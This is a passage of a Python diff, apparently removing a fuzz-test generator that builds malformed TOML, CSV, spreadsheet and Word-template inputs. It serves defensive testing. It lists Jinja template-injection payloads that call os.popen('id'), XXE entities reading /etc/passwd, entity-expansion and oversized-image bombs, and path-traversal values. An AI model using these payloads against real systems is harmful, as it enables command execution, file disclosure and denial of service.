-        "deep lists": f"x = {'[' * 20_000}{']' * 20_000}", "deep tables": f"x = {'{a=' * 5_000}1{'}' * 5_000}",
-        "a long key": f"{'a.' * 20_000}b = 1", "a key of quotes": '"".""."" = 1', "a table twice": "[council]\nname = 'x'",
-        "a table of tables": "[[council]]\nname = 'x'", "bidi": "# \u202e\nx = '\u202e'", "a line end of the old kind": "x = 1\ry = 2",
-        "many keys": "\n".join(f"k{n} = {n}" for n in range(20_000)), "many tables": "\n".join(f"[t.{n}]" for n in range(20_000)),
-        "many quotes": '"""' * 30_000, "nothing": "\0", "an escape": "x = '\x1b[2J'", "no character": "x = '\ufffe'",
-    }  # fmt: skip
-    out = {
-        name: f"{text}\n{line}\n".encode("utf-8", "surrogatepass") for name, line in lines.items()
-    }
-    values = (
-        "-1",
-        "0",
-        "1e308",
-        "nan",
-        "inf",
-        "9223372036854775807",
-        "true",
-        '""',
-        "[]",
-        "{}",
-        "2025-01-01",
-        '"\u202e"',
-        f'"{"x" * 9000}"',
-        '"../../etc"',
-        '"{{ 7 }}"',
-        '"=1+1"',
-    )
-    for number, line in enumerate(text.splitlines()):
-        key, equals, _ = line.partition(" = ")
-        if equals and not line.startswith("#"):
-            value = values[number % len(values)]
-            out[f"{key} is {value[:9]}"] = text.replace(line, f"{key} = {value}", 1).encode()
-    out["a half of a character"] = text.encode() + b"# \xc3\n"
-    out["a surrogate in bytes"] = text.encode() + b"x = '\xed\xa0\x80'\n"
-    out["UTF-16"] = text.encode("utf-16")
-    out["a mark of order"] = text.encode("utf-8-sig")
-    out["nothing"] = b""
-    out["one line"] = text.replace("\n", " ").encode()
-    return out
-
-
-MARKS = (
-    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
-    "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{ self._TemplateReference__context }}", "{{ title.__class__ }}",
-    "{{ joiner.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ request.application }}",
-    "{{ title|attr('__class__') }}", "{{ title|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "{{ title['__class__'] }}", "{{ ()|map(attribute='__class__')|list }}",
-    "{% for a in range(1000000000) %}{% endfor %}", "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}",
-    "{% set ns = namespace(a='x') %}{% for i in range(99999) %}{% set ns.a = ns.a + ns.a %}{% endfor %}{{ ns.a }}",
-    "{{ 'a' * 3000000000 }}", "{{ 9 ** 99999999 }}", "{{ lipsum(n=100000, max=100000) }}", "{{ [0] * 10 ** 10 }}", "{{ '%999999999d' % 1 }}", "{{ '{:>999999999}'.format(1) }}",
-    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% extends 'x' %}", "{% from 'x' import y %}",
-    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{% macro m() %}{{ caller() }}{% endmacro %}{% call m() %}{{ m() }}{% endcall %}",
-    "{% block a %}{{ self.a() }}{% endblock %}", "{{ title | center(999999999) }}", "{{ title | indent(999999999) }}", "{{ range(10**9) | list }}", "{{ (1,2,3) | sum(start=[]) }}",
-    "{{ title | wordwrap(0) }}", "{{ title | batch(0) | list }}", "{{ [] | random }}", "{% raw %}", "{% endfor %}", "{{", "}}", "{#", "{% if %}", "{{ 1 // 0 }}", "{{ nothing.at.all }}", "{{ title() }}",
-    "{% do x %}", "{% trans %}x{% endtrans %}", "{{ dict.mro() }}", "{{ title.format.__func__ }}", "{{ '{0.__class__}'.format(title) }}", "{% set everything = 1 %}{{p everything }}",
-    "{{p everything }}" * 2000, "{" * 30_000, "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", "{{ " + "-" * 20_000 + "1 }}", "{{ " + "a." * 20_000 + "b }}", "{{ '" + "x" * 1_000_000 + "' }}",
-    "{%tr for a in b %}", "{%p if title %}", "{{r title }}", "{{tc title }}", "{% colspan 9999999999 %}", "{% cellbg title %}", "{% vm %}", "{% hm %}",
-)  # fmt: skip
-
-
-def templates(plain: bytes) -> dict[str, bytes]:
-    """Word templates."""
-    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
-        parts = {name: archive.read(name) for name in archive.namelist()}
-    body = parts["word/document.xml"].decode()
-    at = body.index("<w:p ") if "<w:p " in body else body.index("<w:p>")
-
-    def with_body(text: str, **more: bytes) -> bytes:
-        return packed({**parts, "word/document.xml": text, **more})
-
-    out = {}
-    for mark in MARKS:
-        told = mark.replace("&", "&amp;").replace("<", "&lt;")
-        out[mark[:60]] = with_body(f"{body[:at]}<w:p><w:r><w:t>{told}</w:t></w:r></w:p>{body[at:]}")
-    half = "".join(f"<w:r><w:t>{sign}</w:t></w:r>" for sign in "{{ ''.__class__ }}")
-    out["a mark in single letters"] = with_body(f"{body[:at]}<w:p>{half}</w:p>{body[at:]}")
-    out["deep paragraphs"] = with_body(
-        body[:at] + "<w:sdt><w:sdtContent>" * 3000 + "</w:sdtContent></w:sdt>" * 3000 + body[at:]
-    )
-    out["entities"] = with_body(
-        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
-        + body.partition("?>")[2]
-    )
-    out["a file for an entity"] = with_body(
-        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
-        + body.partition("?>")[2].replace("<w:t>", "<w:t>&a;", 1)
-    )
-    wide = struct.pack(">2L5B", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0)
-    picture = (
-        b"\x89PNG\r\n\x1a\n"
-        + struct.pack(">L", 13)
-        + b"IHDR"
-        + wide
-        + struct.pack(">L", zlib.crc32(b"IHDR" + wide))
-    )
-    out["a picture of 2^31 pixels a side"] = with_body(
-        body, **{"word/media/image1.png": picture + b"\0" * 99}
-    )
-    out["a picture of 80 MB of nothing"] = with_body(
-        body, **{"word/media/image1.png": picture + b"\0" * 80_000_000}
-    )
-    out["macros"] = with_body(body, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
-    links = parts["word/_rels/document.xml.rels"].decode()
-    for name, target in {
-        "a picture elsewhere": "http://example.org/x.png",
-        "a picture of a file": "file:///etc/passwd",
-    }.items():
-        link = (
-            f'<Relationship Id="rX" Type="{LINKS}/image" Target="{target}" TargetMode="External"/>'
-        )
-        out[name] = packed(
-            {
-                **parts,
-                "word/_rels/document.xml.rels": links.replace(
-                    "</Relationships>", f"{link}</Relationships>"
-                ),
-            }
-        )
-    loop = f'<Relationship Id="rL" Type="{LINKS}/subDocument" Target="document.xml"/>'
-    out["a document within itself"] = packed(
-        {
-            **parts,
-            "word/_rels/document.xml.rels": links.replace(
-                "</Relationships>", f"{loop}</Relationships>"
-            ),
-        }
-    )
-    return out
-
-
-@functools.cache
-def tricks(kind: str, sound: bytes = b"") -> tuple[tuple[str, Trick], ...]:
-    """Name and make every trick of a kind of file.
-
-    Parameters
-    ----------
-    kind
-        Ending of the files' names.
-    sound
-        A sound program file or template to work on; none for the others.
-    """
-    made: dict[str, bytes | Trick] = {}
-    if kind in ("xlsx", "ods"):
-        made = books() if kind == "xlsx" else open_books()
-        plain = made["as it is"]
-        assert isinstance(plain, bytes)
-        made |= {f"archive: {name}": content for name, content in archives(plain).items()}
-    elif kind == "csv":
-        made = texts()
-    elif kind == "toml":
-        made = dict(settings(sound.decode()))
-    else:
-        made = {**templates(sound), **{f"archive: {n}": c for n, c in archives(sound).items()}}
-    whole = {n: one if isinstance(one, Trick) else Trick("", one) for n, one in made.items()}
-    return tuple((n, one._replace(name=one.name or f"costs.{kind}")) for n, one in whole.items())
